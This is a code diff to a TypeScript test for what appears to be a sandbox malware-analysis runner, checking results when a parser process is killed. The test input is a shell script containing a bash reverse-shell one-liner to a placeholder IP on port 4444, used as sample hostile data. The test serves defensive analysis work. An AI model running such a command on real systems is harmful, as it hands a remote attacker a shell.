@@ -11,6 +11,7 @@ import { FakeMachines } from '../sandbox-runner/machines/fake-machines.ts';
 import { bounds } from '../sandbox-runner/parsers/bounds.ts';
 import { frame, FrameReader, headerBytesMax } from '../sandbox-runner/parsers/messages.ts';
 import { World } from '../sandbox-runner/parsers/world.ts';
+import { quietGuest } from './quiet-guest.ts';
 import { zip } from './samples/binaries.ts';
 
 const entry = fileURLToPath(new URL('./parsers/hostile-parser.ts', import.meta.url));
@@ -111,7 +112,7 @@ describe('a file whose parser process was killed', () => {
         },
       }),
     };
-    const machines = new BoundedMachines(new FakeMachines(['linux', 'windows-10']), 1);
+    const machines = new BoundedMachines(new FakeMachines(['linux', 'windows-10'], quietGuest), 1);
     const bytes = Buffer.from('#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.1/4444 0>&1\n');
     const results: ResultBody[] = [];
     await analyse({ ...engine, examiner: killing as unknown as Examiner }, machines, { fileName: 'a.sh', runMsMax: 1_000, environment: null }, bytes, async (result) => void results.push(result));
